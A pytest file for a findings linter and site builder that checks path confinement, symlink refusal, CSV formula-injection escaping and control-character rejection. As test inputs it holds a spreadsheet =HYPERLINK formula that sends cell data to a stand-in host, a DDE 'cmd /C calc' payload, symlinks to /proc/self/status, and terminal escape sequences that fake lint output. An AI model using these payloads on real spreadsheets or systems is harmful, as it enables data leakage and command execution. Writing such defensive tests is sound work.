"""Records from strangers: only the project's own files are read, what is published is clean
data, and text holds no invisible or control characters. Each bad input gets one message
naming its file, its line, what is wrong and what to do."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest

from findings.export import json_line

DIR = "findings/power-dynamics"
BAD = f"{DIR}/bad-finding.yml"
GOOD = "theme: power-dynamics\nsummary: Text [@kaye2020].\ncitations: [kaye2020]\n"
SECRET = "SECRET-FROM-OUTSIDE"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def lint(run_cli, project) -> tuple[int, list[str], str]:
    """`findings lint` in the project: exit status, the problem lines, and all it printed."""
    code, out, err = run_cli("lint", cwd=project.root)
    assert "Traceback" not in out + err
    return code, out.splitlines(), out + err


def set_option(project, line: str) -> None:
    """Add a line (such as ``bibliography: x.bib``) to the findings plugin's settings."""
    config = project.config.read_text(encoding="utf-8")
    project.write("mkdocs.yml", config.replace("  - findings:\n", f"  - findings:\n      {line}\n", 1))


def messages(project, path: str = BAD) -> list[str]:
    """Every error in ``path``, as lint prints it."""
    return [str(p) for p in project.problems() if p.path == path]


# A. Only the repository's own files ---------------------------------------------------------

@pytest.mark.parametrize("option, value", [
    ("findings", "../outside"),
    ("bibliography", "../../elsewhere.bib"),
    ("questions", "/etc/hostname"),
], ids=["findings", "bibliography", "questions"])
def test_a_path_setting_outside_the_project_is_refused_naming_the_setting(run_cli, project, option, value):
    set_option(project, f"{option}: {value}")
    code, lines, _ = lint(run_cli, project)
    assert code == 1
    default = {"findings": "findings", "bibliography": "bibliography.bib", "questions": "questions.yml"}[option]
    assert (f"mkdocs.yml: plugins.findings.{option}: '{value}' is outside the project folder; give a path "
            f"inside the folder holding mkdocs.yml, e.g. '{default}'") in lines


def test_links_leading_outside_are_refused_and_never_read(run_cli, project, build_site, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "stolen.yml").write_text(f"title: {SECRET}\n{SECRET}: 1\n" + GOOD, encoding="utf-8")
    (outside / "stolen.bib").write_text("@book{%s, title = {%s}, year = {2020}}\n" % (SECRET, SECRET), encoding="utf-8")
    os.symlink(outside / "stolen.yml", project.root / DIR / "stolen.yml")
    os.symlink("/proc/self/status", project.root / DIR / "status.yml")
    os.symlink(outside, project.root / DIR / "more")
    (project.root / "bibliography.bib").rename(project.root / "real.bib")
    os.symlink(outside / "stolen.bib", project.root / "bibliography.bib")
    # A link that stays inside the project is followed.
    project.write("shared/linked-finding.yml", "title: A finding kept elsewhere in the project.\n" + GOOD)
    os.symlink(project.root / "shared/linked-finding.yml", project.root / DIR / "linked-finding.yml")

    code, lines, output = lint(run_cli, project)
    assert code == 1
    advice = "only the project's own files are read: put the {0} itself here instead of a link"
    assert lines == [
        "bibliography.bib:1:1: 'bibliography.bib' is a link to a file outside the project; " + advice.format("file"),
        f"{DIR}/more: 'more' is a link to a folder outside the project; " + advice.format("folder"),
        f"{DIR}/status.yml:1:1: 'status.yml' is a link to a file outside the project; " + advice.format("file"),
        f"{DIR}/stolen.yml:1:1: 'stolen.yml' is a link to a file outside the project; " + advice.format("file"),
    ]
    assert SECRET not in output and "Name:" not in output

    (project.root / "bibliography.bib").unlink()
    (project.root / "real.bib").rename(project.root / "bibliography.bib")
    code, output, site = build_site(project.config, tmp_path / "site")
    assert code != 0 and SECRET not in output
    assert not site.exists() or not list(site.rglob("*.html"))
    for name in ("stolen.yml", "status.yml", "more"):
        (project.root / DIR / name).unlink()
    code, output, site = build_site(project.config, tmp_path / "site")
    assert code == 0, output
    published = json.loads((site / "data/findings.json").read_text(encoding="utf-8"))
    assert "linked-finding" in {row["id"] for row in published}


@pytest.mark.parametrize("missing, expected", [
    ("findings", "findings: folder not found; create it, or set the findings plugin's 'findings' setting in "
                 "mkdocs.yml to where it is"),
    ("bibliography.bib", "bibliography.bib: file not found; create it, or set the findings plugin's "
                         "'bibliography' setting in mkdocs.yml to where it is"),
    ("questions.yml", "questions.yml: file not found; create it, or set the findings plugin's 'questions' "
                      "setting in mkdocs.yml to where it is"),
], ids=["findings folder", "bibliography", "questions"])
def test_a_missing_folder_or_file_is_named_once(run_cli, project, missing, expected):
    """Not again by every question naming a finding, or every finding citing a source."""
    target = project.root / missing
    if target.is_dir():
        for path in sorted(target.rglob("*"), reverse=True):
            path.rmdir() if path.is_dir() else path.unlink()
        target.rmdir()
    else:
        target.unlink()
    code, lines, _ = lint(run_cli, project)
    assert (code, lines) == (1, [expected])


def test_near_miss_file_names_are_a_warning_saying_what_to_rename_them_to(run_cli, project):
    renames = {"x.YML": "x.yml", "x.yml.txt": "x.yml", "x.yaml.txt": "x.yaml", "x.yml ": "x.yml",
               ".x.yml": "x.yml", "My Finding.Yml": "my-finding.yml"}
    for name in renames:
        project.write(f"{DIR}/{name}", "title: A claim.\n" + GOOD)
    project.write(f"{DIR}/notes.md", "Not a record, and not like one.\n")
    code, lines, _ = lint(run_cli, project)
    assert code == 1
    assert lines == [f"{DIR}/{name}:1:1: '{name}' is skipped: a finding's file name is its id and .yml; "
                     f"rename it to '{renames[name]}' [warning]" for name in sorted(renames)]


def test_a_finding_in_another_themes_folder_is_a_warning_naming_both(run_cli, project):
    project.write("findings/relationship-quality/misplaced.yml", "title: A claim.\n" + GOOD)
    code, lines, _ = lint(run_cli, project)
    assert (code, lines) == (1, [
        "findings/relationship-quality/misplaced.yml:2:1: the theme is 'power-dynamics' but the file is in the "
        "folder 'relationship-quality'; move the file to the 'power-dynamics' folder or correct the theme [warning]"])


# B. Published data is clean -----------------------------------------------------------------

def statistic(value: str) -> str:
    return (f"title: A claim.\n{GOOD}statistics:\n  - value: {value}\n    unit: per cent\n"
            "    measure: members\n    source: kaye2020\n")


@pytest.mark.parametrize("value, shown", [(".nan", "nan"), (".inf", "inf"), ("-.inf", "-inf"), ("'1e400'", "1e400")])
def test_a_statistic_value_must_be_a_finite_number(project, value, shown):
    project.write(BAD, statistic(value))
    assert messages(project) == [f"{BAD}:6:5: statistics.value: '{shown}' is not a finite number; give the figure, "
                                 "e.g. 64"]


def test_a_nan_statistic_stops_the_build_and_no_data_file_is_written(project, build_site, tmp_path):
    project.write(BAD, statistic(".nan"))
    code, output, site = build_site(project.config, tmp_path / "site")
    assert code != 0 and f"{BAD}:6:5: statistics.value: 'nan' is not a finite number" in output
    assert not (site / "data/findings.json").exists()
    with pytest.raises(ValueError):  # and the writer would never write NaN, which is not JSON
        json_line({"value": float("nan")})


def test_no_csv_cell_starts_a_spreadsheet_formula(project, build_site, tmp_path):
    titles = {"formula-title": '=HYPERLINK("https://example.org/?leak="&A1, "Click")',
              "at-title": "@SUM(1+1)*cmd|' /C calc'!A0", "plus-title": "+1+1", "minus-title": "-1+1"}
    for finding_id, title in titles.items():
        project.write(f"{DIR}/{finding_id}.yml", f"title: {json.dumps(title)}\n" + GOOD)
    project.write(f"{DIR}/negative.yml", statistic("-5").replace("A claim.", "Numbers fell."))
    code, output, site = build_site(project.config, tmp_path / "site")
    assert code == 0, output

    rows = list(csv.DictReader(io.StringIO((site / "data/findings.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    by_id = {row["id"]: row for row in rows}
    for finding_id, title in titles.items():
        assert by_id[finding_id]["title"] == "'" + title
    assert by_id["negative"]["statistics"] == "'-5 per cent: members (kaye2020)"
    published = json.loads((site / "data/findings.json").read_text(encoding="utf-8"))
    assert {row["id"]: row["title"] for row in published if row["id"] in titles} == titles  # JSON keeps them


# C. Text rules --------------------------------------------------------------------------------

@pytest.mark.parametrize("record, line, message", [
    ('title: "A \\x7f claim."\n' + GOOD, 1, "title: holds the control character U+007F; remove it"),
    ('title: "A \\0 claim."\n' + GOOD, 1, "title: holds the control character U+0000; remove it"),
    ('title: "A \\t claim."\n' + GOOD, 1, "title: holds the control character U+0009; remove it"),
    ('title: "A \\r claim."\n' + GOOD, 1, "title: holds the control character U+000D; remove it"),
    ('title: "A \\x85 claim."\n' + GOOD, 1, "title: holds the control character U+0085; remove it"),
    ('title: "A \\u2028 claim."\n' + GOOD, 1, "title: holds the line separator U+2028; remove it"),
    ('title: "A \\u2029 claim."\n' + GOOD, 1, "title: holds the paragraph separator U+2029; remove it"),
    ('title: "A \\ufffe claim."\n' + GOOD, 1, "title: holds the noncharacter U+FFFE; remove it"),
    ('title: "A \\ufdd0 claim."\n' + GOOD, 1, "title: holds the noncharacter U+FDD0; remove it"),
    ('title: "A \\U0010FFFF claim."\n' + GOOD, 1, "title: holds the noncharacter U+10FFFF; remove it"),
    ('title: A claim.\n' + GOOD.replace("[kaye2020]", '[{key: kaye2020, locator: "p.\\x1b3"}]'), 4,
     "citations.locator: holds the control character U+001B; remove it"),
    (statistic("3").replace("unit: per cent", 'unit: "per\\x07cent"'), 7,
     "statistics.unit: holds the control character U+0007; remove it"),
    ('title: A claim.\ntheme: power-dynamics\nsummary: "Text\\x7f [@kaye2020]."\ncitations: [kaye2020]\n', 3,
     "summary: holds the control character U+007F; remove it"),
    ('title: A claim.\ntheme: power-dynamics\nsummary: "Text\\u2028 [@kaye2020]."\ncitations: [kaye2020]\n', 3,
     "summary: holds the line separator U+2028; remove it"),
    ('title: A claim.\ntheme: power-dynamics\nsummary: "Text\\U0001FFFE [@kaye2020]."\ncitations: [kaye2020]\n', 3,
     "summary: holds the noncharacter U+1FFFE; remove it"),
    ("title: A \ufffe claim.\n" + GOOD, 1, None),  # written as is, YAML itself refuses it
], ids=["DEL", "NUL", "tab", "lone CR", "C1", "U+2028", "U+2029", "U+FFFE", "U+FDD0", "U+10FFFF", "locator",
        "unit", "summary DEL", "summary U+2028", "summary U+1FFFE", "raw noncharacter"])
def test_text_refuses_control_and_invisible_characters_naming_them(project, record, line, message):
    project.write(BAD, record)
    found = messages(project)
    if message is None:
        assert found == [f"{BAD}:1:10: this line holds the noncharacter U+FFFE, which a record may not contain; "
                         "delete it"]
    else:
        assert len(found) == 1 and found[0].startswith(f"{BAD}:{line}:") and found[0].endswith(": " + message), found


def test_a_summary_refuses_nul_but_keeps_its_tabs_and_newlines(project, build_site, tmp_path):
    tabbed = "title: A claim.\ntheme: power-dynamics\nsummary: |\n  Code:\n\n  \tcode\tblock\n\n  Text [@kaye2020].\n"
    project.write(f"{DIR}/tabbed.yml", tabbed + "citations: [kaye2020]\n")
    project.write(BAD, 'title: A claim.\ntheme: power-dynamics\nsummary: "Text\\0 [@kaye2020]."\ncitations: [kaye2020]\n')
    assert [str(p) for p in project.problems()] == [f"{BAD}:3:1: summary: holds the control character U+0000; remove it"]
    code, output, site = build_site(project.config, tmp_path / "site")
    assert code != 0 and "\x00" not in output
    assert not site.exists() or not list(site.rglob("*.html"))  # NUL reaches no page: none is written
    (project.root / BAD).unlink()
    assert "\tcode\tblock" in project.knowledge_base().finding_by_id["tabbed"].finding.summary


def test_theme_titles_and_questions_refuse_control_characters(run_cli, project):
    config = project.config.read_text(encoding="utf-8")
    project.write("mkdocs.yml", config.replace("title: Power dynamics", 'title: "Power\\adynamics"'))
    code, _, output = lint(run_cli, project)
    assert code == 1 and "plugins.findings.themes.0.title: holds the control character U+0007; remove it" in output
    project.write("mkdocs.yml", config)
    project.write("questions.yml", '- id: q\n  question: "Why\\x1b[2K?"\n  sub_questions: ["One\\u2029two"]\n')
    code, lines, _ = lint(run_cli, project)
    assert (code, lines) == (1, ["questions.yml:2:3: question: holds the control character U+001B; remove it",
                                 "questions.yml:3:19: sub_questions: holds the paragraph separator U+2029; remove it"])


def test_a_key_listed_twice_in_citations_is_an_error_at_the_repeat(project):
    project.write(BAD, "title: A claim.\ntheme: power-dynamics\nsummary: Text [@kaye2020].\ncitations:\n"
                  "  - kaye2020\n  - localtrust2020reps\n  - key: kaye2020\n    locator: p. 3\n")
    assert messages(project) == [f"{BAD}:7:5: 'kaye2020' is listed twice in citations (first on line 5); keep one"]


def test_a_summary_citing_a_key_not_in_citations_is_an_error_at_the_citation(project):
    project.write(BAD, "title: A claim.\ntheme: power-dynamics\nsummary: |\n  Text [@kaye2020].\n\n"
                  "  More, as @localtrust2020reps found [@localtrust2020reps, p. 2; @nokey].\ncitations: [kaye2020]\n")
    assert messages(project) == [
        f"{BAD}:6: the summary cites 'localtrust2020reps' but citations does not list it; add it to citations",
        f"{BAD}:6: unknown citation key 'nokey'; add it to bibliography.bib or correct it",
    ]


# D. Every message plain, placed and safe to print ---------------------------------------------

@pytest.mark.parametrize("record, expected", [
    ("title:\n  - One claim.\n  - Another.\n" + GOOD, "1:1: title: must be text, not a list"),
    ("title: A claim.\n" + GOOD + "statistics: [64]\n", "5:14: statistics: must be a mapping of fields (name: value), "
                                                         "not a number"),
    ("title: A claim.\n" + GOOD + "added: soon\n", "5:1: added: 'soon' is not a date; write it year-month-day: YYYY-MM-DD, e.g. 2026-11-30"),
    ('title: ""\n' + GOOD, "1:1: title: is empty; write it out"),
    ("title: A claim.\n" + GOOD + '"\\e[2K\\rfindings/x.yml:1: all good": 1\n',
     "5:1: 'U+001B[2KU+000Dfindings/x.yml:1: all good' is not a known field; known fields: title, theme, summary, "
     "citations, statistics, tags, related, status, added, reviewed, evidence, public_bodies"),
    ("title: A claim.\n" + GOOD + "evidence: \"\\e[31mred\"\n", "5:1: evidence: 'U+001B[31mred' is not one of "
                                                              "survey, qualitative, evaluation, internal-data, literature"),
], ids=["list for text", "number for a statistic", "not a date", "empty", "escape in a key", "escape in a value"])
def test_messages_are_plain_and_quote_no_control_characters(run_cli, project, record, expected):
    project.write(BAD, record)
    code, lines, output = lint(run_cli, project)
    assert (code, lines) == (1, [f"{BAD}:{expected}"])
    assert "pydantic" not in output and "\x1b" not in output


def test_deeply_nested_values_are_refused_without_crashing(run_cli, project):
    project.write(BAD, "title: " + "[" * 100_000 + "]" * 100_000 + "\n")
    project.write(f"{DIR}/dashes.yml", "title:\n" + "- " * 100_000 + "x\n")
    code, lines, _ = lint(run_cli, project)
    nested = "values here nest more than 100 levels deep; a record's fields nest a few levels at most"
    assert (code, lines) == (1, [f"{DIR}/bad-finding.yml:1:107: {nested}", f"{DIR}/dashes.yml:2:199: {nested}"])
